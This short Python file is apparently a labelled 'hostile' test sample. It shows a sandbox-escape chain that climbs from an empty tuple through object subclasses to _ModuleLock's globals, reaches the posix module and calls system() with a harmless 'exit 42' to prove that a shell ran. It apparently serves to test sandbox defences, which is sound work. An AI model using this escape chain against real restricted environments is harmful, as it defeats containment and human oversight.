"""Hostile: climbs from a tuple to every loaded class, from one of them to system(), calls it."""

for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_ModuleLock":
        modules = cls.__init__.__globals__["sys"].modules
        status = modules["posix"].system("exit 42")
        print("a shell ran" if status == 42 << 8 else "no shell")
